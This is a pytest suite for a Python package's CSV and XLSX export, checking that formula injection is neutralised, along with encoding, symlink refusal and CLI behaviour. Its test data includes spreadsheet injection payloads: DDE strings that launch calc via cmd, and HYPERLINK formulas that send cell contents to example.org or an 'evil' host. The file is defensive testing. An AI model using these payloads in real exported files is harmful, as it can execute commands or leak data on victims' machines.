"""Spreadsheet exports: CSV that Excel opens right, XLSX, and no formula ever run."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
import tempfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import followup
from followup.errors import FollowupError
from followup.interop.export import HISTORY_COLUMNS, RECOMMENDATION_COLUMNS, rows
from followup.interop.spreadsheet import (
    FORMULA_STARTS,
    MAX_XLSX_CELL,
    neutralise,
    write_csv,
    write_xlsx,
)
from followup.model.dates import PartialDate
from followup.registry.outputs import UnsafeOutput

openpyxl = pytest.importorskip("openpyxl")
# an abandoned openpyxl stream complains only when collected: make that a failure
pytestmark = pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")

AS_OF = dt.date(2026, 11, 25)
BOM = b"\xef\xbb\xbf"
HOSTILE = [
    "=1+2",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "-0.25",
]
COLUMNS = ("id", "text", "score", "date", "themes", "flag")


def _table() -> list[dict[str, Any]]:
    table: list[dict[str, Any]] = [
        {
            "id": f"r{i}",
            "text": text,
            "score": -0.25,
            "date": dt.date(2020, 1, i + 1),
            "themes": ["=a", "b"],
            "flag": True,
        }
        for i, text in enumerate(HOSTILE)
    ]
    table.append({"id": "ru", "text": "Свобода собраний", "score": 3, "date": None})
    table.append({"id": "ar", "text": "حرية التجمع", "themes": ["حقوق المرأة"]})
    table.append({"id": "zh", "text": "集会自由", "score": None})
    return table


# --- neutralise --------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralise_quotes_formula_starts(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["", "plain", "'=already", " =1", "0.25", "Свобода"])
def test_neutralise_leaves_other_text(text: str) -> None:
    assert neutralise(text) == text


@given(st.text())
def test_neutralise_property(text: str) -> None:
    safe = neutralise(text)
    assert not (safe and safe[0] in FORMULA_STARTS)
    assert text in safe
    assert safe.endswith(text) and len(safe) - len(text) in (0, 1)
    assert neutralise(safe) == safe


# --- CSV ---------------------------------------------------------------------------------


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_bom_crlf_and_round_trip(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    assert write_csv(target, COLUMNS, _table()) == len(HOSTILE) + 3
    data = target.read_bytes()
    assert data.startswith(BOM)
    assert data.count(b"\r\n") == data.count(b"\n")  # every line ends with CRLF
    read = _read_csv(target)
    assert read[0] == list(COLUMNS)
    by_id = {row[0]: row for row in read[1:]}
    assert by_id["ru"][1] == "Свобода собраний"
    assert by_id["ar"][1:] == ["حرية التجمع", "", "", "حقوق المرأة", ""]
    assert by_id["zh"][1] == "集会自由"
    for i, text in enumerate(HOSTILE):
        expected = [f"r{i}", "'" + text, "-0.25", f"2020-01-0{i + 1}", "'=a; b", "true"]
        assert by_id[f"r{i}"] == expected
    for row in read:  # no text cell starts like a formula
        assert not any(cell and cell[0] in FORMULA_STARTS for cell in row if cell != "-0.25")


def test_csv_number_columns_are_numbers_not_neutralised(tmp_path: Path) -> None:
    target = tmp_path / "n.csv"
    write_csv(target, ("n", "s"), [{"n": -0.25, "s": "-0.25"}, (-3, "-3")], bom=False)
    assert target.read_bytes() == b"n,s\r\n-0.25,'-0.25\r\n-3,'-3\r\n"


def test_csv_streams(tmp_path: Path) -> None:
    binary = io.BytesIO()
    write_csv(binary, ("a",), [{"a": "Ж"}])
    assert binary.getvalue() == BOM + "a\r\nЖ\r\n".encode()
    assert not binary.closed
    text = io.StringIO(newline="")
    write_csv(text, ("a",), [["=x"]], bom=False)
    assert text.getvalue() == "a\r\n'=x\r\n"


def test_csv_refuses_a_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    link = tmp_path / "out.csv"
    link.symlink_to(victim)
    with pytest.raises(UnsafeOutput):
        write_csv(link, ("a",), [{"a": "x"}])
    assert victim.read_text() == "keep"


def test_csv_of_kazakhstan(tmp_path: Path, kazakhstan: followup.Registry) -> None:
    table = rows(kazakhstan, as_of=AS_OF)
    target = tmp_path / "kaz.csv"
    write_csv(target, RECOMMENDATION_COLUMNS, table)
    read = _read_csv(target)
    assert read[0] == list(RECOMMENDATION_COLUMNS)
    assert [row[0] for row in read[1:]] == [row["id"] for row in table]
    text = RECOMMENDATION_COLUMNS.index("text")
    assert [row[text] for row in read[1:]] == [neutralise(row["text"] or "") for row in table]


# --- XLSX --------------------------------------------------------------------------------


def _no_formulas(book: Any) -> None:
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in FORMULA_STARTS or cell.value == ""


def test_xlsx_cells_types_and_layout(tmp_path: Path) -> None:
    target = tmp_path / "out.xlsx"
    assert write_xlsx(target, [("table", COLUMNS, _table())]) == target
    book = openpyxl.load_workbook(target)
    sheet = book["table"]
    _no_formulas(book)
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    for i, text in enumerate(HOSTILE):
        cells = sheet[i + 2]
        assert cells[1].value == "'" + text and cells[1].data_type == "s"
        assert cells[2].value == -0.25 and cells[2].data_type == "n"
        assert cells[3].is_date and cells[3].value.date() == dt.date(2020, 1, i + 1)
        assert cells[4].value == "'=a; b"
        assert cells[5].value is True
    last = {sheet.cell(row=r, column=1).value: r for r in range(2, sheet.max_row + 1)}
    assert sheet.cell(row=last["ru"], column=2).value == "Свобода собраний"
    assert sheet.cell(row=last["ar"], column=5).value == "حقوق المرأة"
    assert sheet.cell(row=last["zh"], column=2).value == "集会自由"
    assert 6 <= sheet.column_dimensions["B"].width <= 60


def test_xlsx_of_kazakhstan(tmp_path: Path, kazakhstan: followup.Registry) -> None:
    current = rows(kazakhstan, as_of=AS_OF)
    history = rows(kazakhstan, history=True)
    target = tmp_path / "kaz.xlsx"
    write_xlsx(
        target,
        [
            ("recommendations", RECOMMENDATION_COLUMNS, current),
            ("history", HISTORY_COLUMNS, history),
        ],
    )
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["recommendations", "history"]
    _no_formulas(book)
    sheet = book["history"]
    assert sheet.max_row == len(history) + 1
    assert sheet.freeze_panes == "A2"
    date = HISTORY_COLUMNS.index("date") + 1
    partial = dated = 0
    for number, entry in enumerate(history, start=2):
        cell = sheet.cell(row=number, column=date)
        day = entry["date"]
        if day is None:  # an undated entry: an empty cell
            assert cell.value is None
        elif isinstance(day, PartialDate):
            partial += 1
            assert cell.is_date and cell.value.date() == day.last_day
            assert cell.number_format == {"month": "yyyy-mm", "year": "yyyy"}[day.precision]
        else:
            dated += 1
            assert cell.is_date and cell.value.date() == day
            assert cell.number_format == "yyyy-mm-dd"
    assert partial and dated  # the registry has dates known only to the month
    recs = book["recommendations"]
    themes = RECOMMENDATION_COLUMNS.index("themes") + 1
    for number, row in enumerate(current, start=2):
        assert recs.cell(row=number, column=1).value == row["id"]
        assert recs.cell(row=number, column=themes).value == (
            neutralise("; ".join(row["themes"])) or None
        )


def test_xlsx_control_characters_replaced(tmp_path: Path) -> None:
    target = tmp_path / "c.xlsx"
    write_xlsx(target, [("s", ("a",), [{"a": "bell\x07here"}])])
    assert openpyxl.load_workbook(target)["s"]["A2"].value == "bell\ufffdhere"


def test_xlsx_errors_leave_nothing_written(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    scratch = tmp_path / "scratch"  # where openpyxl streams the sheets
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    target = tmp_path / "keep.xlsx"
    target.write_bytes(b"old")
    too_long = [{"a": "x"}, {"a": "y" * (MAX_XLSX_CELL + 1)}]
    with pytest.raises(FollowupError, match=r"sheet 'big', row 3, column 'a'.*CSV or Parquet"):
        write_xlsx(target, [("ok", ("a",), [{"a": 1}]), ("big", ("a",), too_long)])
    for bad in ("a/b", "x" * 32, ""):
        with pytest.raises(FollowupError, match="sheet name"):
            write_xlsx(target, [(bad, ("a",), [])])
    with pytest.raises(FollowupError, match="two worksheets"):
        write_xlsx(target, [("T", ("a",), []), ("t", ("a",), [])])
    assert target.read_bytes() == b"old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["keep.xlsx", "scratch"]
    assert list(scratch.iterdir()) == []


def test_xlsx_refuses_a_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep")
    link = tmp_path / "out.xlsx"
    link.symlink_to(victim)
    with pytest.raises(UnsafeOutput):
        write_xlsx(link, [("s", ("a",), [])])
    assert victim.read_text() == "keep"


def test_xlsx_without_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(FollowupError, match=r"pip install 'followup\[xlsx\]'"):
        write_xlsx(tmp_path / "x.xlsx", [("s", ("a",), [])])
    assert not (tmp_path / "x.xlsx").exists()


# -- the command line ----------------------------------------------------------------------------

_KAZ = Path(__file__).resolve().parents[1] / "registries" / "kazakhstan"


def _hostile_registry(tmp_path: Path) -> Path:
    """The Kazakhstan registry with a recommendation text that is a formula."""
    import shutil

    root = tmp_path / "reg"
    shutil.copytree(_KAZ, root)
    rec_id = sorted(followup.load(root, cache=False).recommendations)[0]
    with followup.edit(root) as ed:
        ed.set(rec_id, "text", '=HYPERLINK("http://evil","click")')
    return root


def test_cli_csv_has_a_bom_and_runs_no_formula(tmp_path: Path) -> None:
    from followup.cli import main

    root = _hostile_registry(tmp_path)
    out = tmp_path / "out.csv"
    assert main(["export", str(root), "--format", "csv", "-o", str(out)], io.StringIO()) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for cell in row]
    assert '\'=HYPERLINK("http://evil","click")' in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    plain = tmp_path / "plain.csv"
    assert main(["export", str(root), "--format", "csv", "--no-bom", "-o", str(plain)]) == 0
    assert plain.read_bytes().startswith(b"id,")


def test_cli_xlsx_one_sheet_per_table(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from followup.cli import main
    from followup.interop.tables import TABLES

    root = _hostile_registry(tmp_path)
    out = tmp_path / "out.xlsx"
    assert main(["export", str(root), "--format", "xlsx", "-o", str(out)], io.StringIO()) == 0
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [t.name for t in TABLES]
    for table in TABLES:
        sheet = book[table.name]
        assert [c.value for c in sheet[1]] == list(table.names)
        assert sheet.freeze_panes == "A2"
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    texts = [c.value for row in book["recommendations"].iter_rows(min_row=2) for c in row]
    assert '\'=HYPERLINK("http://evil","click")' in texts
    # binary to stdout is refused; --history does not apply
    assert main(["export", str(root), "--format", "xlsx", "-o", "-"]) == 1
    assert main(["export", str(root), "--format", "xlsx", "--history", "-o", str(out)]) == 1
